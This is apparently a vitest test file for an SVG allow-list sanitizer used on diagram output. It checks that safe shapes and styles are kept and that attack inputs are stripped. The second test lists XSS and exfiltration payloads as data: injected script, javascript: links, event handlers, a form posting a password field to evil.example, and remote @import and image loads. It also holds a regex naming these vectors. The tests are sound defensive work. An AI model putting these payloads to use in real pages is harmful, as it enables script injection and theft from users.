import { describe, expect, it } from 'vitest';
import { safeSvg } from './svg-policy.js';

describe('the diagram SVG allow-list', () => {
  it('keeps shapes, text, ids, internal marker references and styles', () => {
    const svg =
      '<svg id="d1-light" xmlns="http://www.w3.org/2000/svg" viewBox="0 0 10 10" style="max-width: 205px;"><style>#d1-light .node rect{fill:#ECECFF;stroke:#9370DB;}</style><defs><marker id="m" refX="5" refY="5" markerWidth="8" markerHeight="8" orient="auto"><path d="M0,0 L10,5 z"/></marker></defs><g class="node"><rect x="1" y="1" width="5" height="5"/><text x="2" y="3" text-anchor="middle" font-family="Times,serif">api</text></g><path d="M0 0L5 5" marker-end="url(#m)"/></svg>';
    const out = safeSvg(svg);
    for (const kept of [
      '<svg id="d1-light" xmlns="http://www.w3.org/2000/svg" viewBox="0 0 10 10" style="max-width:205px">',
      '<style>#d1-light .node rect{fill:#ECECFF;stroke:#9370DB;}</style>',
      '<marker id="m" refX="5" refY="5" markerWidth="8" markerHeight="8" orient="auto">',
      '<text x="2" y="3" text-anchor="middle" font-family="Times,serif">api</text>',
      'marker-end="url(#m)"',
    ]) {
      expect(out).toContain(kept);
    }
  });

  it('drops script, links, foreignObject, event handlers and anything that loads', () => {
    const attacks = [
      // Graphviz copies fontname into an attribute unescaped.
      '<svg><text font-family=""><script>alert(4)</script>" font-size="14.00">e</text></svg>',
      '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
      '<svg><foreignObject><div><form action="https://evil.example/"><input name="pw"></form><img src="http://127.0.0.1:9/p.gif"></div></foreignObject></svg>',
      '<svg onload="alert(1)"><rect onclick="alert(2)" width="1" height="1"/></svg>',
      '<svg><style>@import url(https://evil.example/x.css);</style><rect style="fill:url(https://evil.example/t)" fill="url(https://evil.example/p)"/></svg>',
      '<svg><use href="https://evil.example/s.svg#x"/><image href="https://evil.example/p.png"/><animate attributeName="href" to="javascript:alert(1)"/></svg>',
    ];
    for (const a of attacks) {
      const out = safeSvg(a);
      expect(out, a).not.toMatch(/<script|javascript:|<foreignObject|<form|<input|<img|onload|onclick|evil\.example|<use|<image|<animate|<a[\s>]/i);
    }
    expect(safeSvg(attacks[1]!)).toContain('<text>x</text>');
  });
});
